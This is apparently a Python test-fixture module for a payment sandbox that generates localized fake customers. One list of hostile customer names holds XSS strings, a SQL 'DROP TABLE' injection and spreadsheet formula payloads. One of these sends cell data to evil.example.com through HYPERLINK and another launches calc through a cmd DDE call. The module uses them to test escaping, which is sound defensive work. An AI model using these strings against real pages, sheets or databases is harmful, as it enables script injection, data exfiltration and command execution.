"""Customers of the sandbox, several of them hostile to careless pages and sheets (contract §6.3)."""

import random

from msgspec import Struct

from merchant.paysuper.sandbox.orders import Customer


class Place(Struct, frozen=True):
    """Where a customer lives, with the tax rate there and the currency of its shop."""

    country: str
    city: str
    postal_code: str
    state: str
    locale: str
    currency: str
    tax_rate: float
    names: tuple[str, ...]


PLACES = (
    Place("DE", "Bremen", "28195", "HB", "de-DE", "EUR", 0.19, ("Mara Lindqvist", "Jürgen Groß", "Änne Öz")),
    Place("FR", "Lyon", "69001", "ARA", "fr-FR", "EUR", 0.2, ("Chloé Lefèvre", "Noël d'Arc", "Zoé Ñandú")),
    Place(
        "GB", "Leeds", "LS1 4AP", "LDS", "en-GB", "GBP", 0.2, ("Ada Kerr", "Tom O'Neill", "Mia Smith-Jones")
    ),
    Place("US", "Austin", "73301", "TX", "en-US", "USD", 0.0, ("Grace Hall", "Jay Ortiz", "Lee Null")),
    Place("RU", "Казань", "420111", "TA", "ru-RU", "RUB", 0.2, ("Илья Громов", "Ольга Щукина", "Ёлка Ким")),
    Place("JP", "札幌市", "060-0001", "01", "ja-JP", "JPY", 0.1, ("山田 花子", "佐藤 健", "鈴木 一郎")),
    Place("BH", "المنامة", "317", "13", "ar-BH", "BHD", 0.0, ("سارة حداد", "علي منصور", "ليلى خان")),
    Place("KR", "서울", "04524", "11", "ko-KR", "KRW", 0.1, ("김민준", "이서연", "박지훈")),
    Place(
        "ZA", "Durban", "4001", "KZN", "en-ZA", "USD", 0.15, ("Thandi Nkosi", "Pieter Botha", "Lwazi Dube")
    ),
)
PLACE_BY_COUNTRY = {place.country: place for place in PLACES}
NOWHERE = Place("", "", "", "", "", "USD", 0.0, ())

_HOSTILE_NAMES = (
    '<script>alert("pay")</script>',
    '<img src=x onerror="alert(1)">&amp;',
    '=HYPERLINK("https://evil.example.com/?a="&A1,"open")',
    "+1+1 cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "-2+3",
    "Right \u202eelbisivni\u202c Left",
    "👩‍👩‍👧‍👦 Family 💥",
    'He said "no"; DROP TABLE orders;--',
    "Two\nlines\tand a tab",
    "Zalgo Z̸̢a̷l̴g̵o̶",
    "{{ name }} {% debug %} %s ${x}",
    "Very long " * 60,
)


def _uuid(rng: random.Random) -> str:
    bits = f"{rng.getrandbits(128):032x}"
    return f"{bits[:8]}-{bits[8:12]}-4{bits[13:16]}-a{bits[17:20]}-{bits[20:]}"


def customer(rng: random.Random, number: int, place: Place, name: str) -> Customer:
    """One customer of a place."""
    return Customer(
        id=_uuid(rng),
        external_id=f"p-{40000 + number}",
        name=name,
        email=f"player{number}@example.com",
        phone=f"7900{rng.randrange(10**7):07d}" if rng.randrange(10) % 3 == 0 else "",
        ip=f"203.0.113.{rng.randrange(1, 255)}",
        locale=place.locale,
        country=place.country,
        city=place.city,
        postal_code=place.postal_code,
        state=place.state,
    )


def crowd(rng: random.Random, size: int) -> list[Customer]:
    """`size` customers from all places; every twelfth has a hostile name, a few no address."""
    people: list[Customer] = []
    for number in range(size):
        place = PLACES[number % len(PLACES)] if (number + 1) % 50 else NOWHERE
        names = (place.names or ("",)) if (number + 5) % 12 else _HOSTILE_NAMES
        people.append(customer(rng, number, place, names[rng.randrange(len(names))]))
    return people
